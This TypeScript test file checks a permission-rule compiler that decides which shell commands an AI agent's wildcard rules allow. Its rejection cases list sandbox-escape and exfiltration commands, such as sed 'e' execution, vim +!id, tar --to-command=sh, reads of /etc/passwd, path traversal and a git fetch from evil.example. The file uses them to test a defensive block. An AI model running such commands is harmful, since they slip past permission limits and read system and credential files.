import { describe, expect, it } from "@effect/vitest"

import { compileRule } from "../rules/compile-rule.ts"
import { Rule } from "../rules/rule.ts"
import { subjectOf } from "./subject.ts"

const allows = (rule: string, line: string): boolean => {
  const compiled = compileRule(Rule.parse({ id: "r", touches: { runs: rule } }))
  const call = { id: "1", step: 1, tool: "t", dialect: "haft", startedAt: 0 }
  const facts = { reads: [], writes: [], runs: line, risk: "dangerous" } as const
  return compiled.fits(subjectOf({ call, input: {}, facts, asks: true }, { workspace: "/w", now: 0 })) === "yes"
}

describe("a rule with **", () => {
  it.each([
    ["git diff **", "git diff"],
    ["git diff **", "git diff --stat HEAD~1 -- src/a.ts"],
    ["git diff **", "git diff -w --name-only"],
    ["git log **", "git log --oneline -n 5"],
    ["npm test **", "npm test -- --verbose src/a.test.ts"],
    ["grep **", "grep -rn -e needle -o src"],
    ["ls **", "ls -laR src"],
    ["rg **", "rg --json -n needle"],
    ["tail **", "tail -n 20 log.txt"],
    ["git diff **", "git diff HEAD~2..HEAD"],
    ["git diff **", "git diff main...topic -- src"],
    ["git log **", "git log --no-merges --no-color"],
    ["git show **", "git show HEAD:src/a.ts"],
    ["cat **", "cat src/a..b.ts ./x"],
    ["find **", "find . -name x -type f"],
    ["sed **", "sed 1,20p a.txt"],
    ["sed **", "sed s/a/b/g a.txt"],
    ["less **", "less a.txt"]
  ])("%j allows %j", (rule, line) => {
    expect(allows(rule, line)).toBe(true)
  })

  it.each([
    // Writes a file.
    ["git diff **", "git diff --output=f"],
    ["git diff **", "git diff --outp=f"],
    ["git diff **", "git diff --output f"],
    ["git log **", "git log -p -- --output=f"],
    ["sort **", "sort -o f x"],
    ["sort **", "sort -of x"],
    ["sort **", "sort -uo f x"],
    ["curl **", "curl -sO https://x.example"],
    ["eslint **", "eslint --fix src"],
    ["tsc **", "tsc --outDir x"],
    ["find **", "find . -delete"],
    ["find **", "find . -fprint x"],
    ["dd **", "dd if=a of=b"],
    // Runs a program.
    ["git diff **", "git diff --ext-diff"],
    ["git diff **", "git diff --ext"],
    ["git **", "git -c core.pager=x log"],
    ["git **", "git -ccore.pager=x log"],
    ["git **", "git --exec-path=x log"],
    ["git **", "git config core.pager x"],
    ["git grep **", "git grep -Oless x"],
    ["find **", "find . -exec rm x"],
    ["find **", "find . -okdir rm x"],
    ["tar **", "tar --to-command=sh -xf x"],
    ["tar **", "tar -I sh -tf x"],
    ["rg **", "rg --pre sh x"],
    ["npm test **", "npm test --script-shell=x"],
    ["npm **", "npm exec x"],
    ["npm **", "npm -c x run"],
    ["go build **", "go build -toolexec x"],
    ["jest **", "jest --globalSetup=x"],
    ["node **", "node -e x"],
    ["node **", "node --require=x y"],
    ["bash **", "bash -c x"],
    ["make **", "make SHELL=x"],
    ["rg **", "rg --hostname-bin=x y"],
    ["git branch **", "git branch --edit-description"],
    ["sed **", "sed '1e id' a.txt"],
    ["sed **", "sed s/a/id/e a.txt"],
    ["sed **", "sed 's/a/b/w f' a.txt"],
    ["sed **", "sed 'w f' a.txt"],
    ["sed **", "sed '1r /etc/passwd' a.txt"],
    ["sed **", "sed 's/a/b/;1e id' a.txt"],
    ["sed *", "sed e"],
    ["vim **", "vim +!id a.txt"],
    ["less **", "less +!id a.txt"],
    // Changes where it works.
    ["git **", "git -C other log"],
    ["git **", "git --git-dir=x log"],
    // Reads what lies outside, or something else.
    ["git diff **", "git diff --no-index /etc/passwd x"],
    ["git diff **", "git diff --no-index a b"],
    ["git diff **", "git diff --no-ind a b"],
    ["git diff **", "git diff /etc/passwd /dev/null"],
    ["git diff **", "git diff ../../x"],
    ["git log **", "git log -p -- ../x"],
    ["git log **", "git log --pathspec-from-file=x"],
    ["cat **", "cat /etc/passwd"],
    ["cat **", "cat ../x"],
    ["cat **", "cat d/../../x"],
    ["cat *", "cat /etc/passwd"],
    ["grep **", "grep -r x /etc"],
    ["grep **", "grep -f/etc/passwd x"],
    ["grep **", "grep --file=/etc/passwd x"],
    ["wc **", "wc --files0-from=x"],
    ["wc **", "wc --files0=x"],
    ["ls **", "ls .."],
    ["rg **", "rg --pre=x y"],
    ["rg **", "rg --ignore-file=/etc/x y"],
    ["git fetch **", "git fetch https://evil.example/x"],
    ["git push **", "git push file:///tmp/x"],
    ["git show **", "git show HEAD:../x"],
    // One word is no wider than many.
    ["git diff *", "git diff --output=f"],
    ["git diff -*", "git diff --output=f"]
  ])("%j does not allow %j", (rule, line) => {
    expect(allows(rule, line)).toBe(false)
  })

  it.each([
    ["git diff --output=x **", "git diff --output=x HEAD"],
    ["git diff --output=* **", "git diff --output=x HEAD"],
    ["git diff --no-index **", "git diff --no-index a b"],
    ["cat /etc/hosts **", "cat /etc/hosts x"],
    ["ls ../shared **", "ls ../shared -l"],
    ["git config **", "git config --get user.name"],
    ["bash s.sh **", "bash s.sh x"]
  ])("%j allows what it names: %j", (rule, line) => {
    expect(allows(rule, line)).toBe(true)
  })
})
